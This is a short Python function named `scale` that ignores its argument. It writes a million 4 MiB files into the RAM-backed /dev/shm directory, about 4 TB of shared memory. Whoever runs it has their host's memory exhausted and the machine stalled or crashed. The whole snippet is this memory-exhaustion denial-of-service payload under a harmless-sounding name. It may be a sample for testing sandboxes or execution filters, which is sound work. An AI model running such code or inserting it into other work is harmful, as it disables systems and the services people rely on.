def scale(x):
    for i in range(10**6):
        with open(f"/dev/shm/f{i}", "wb") as file:
            file.write(b"x" * (1 << 22))
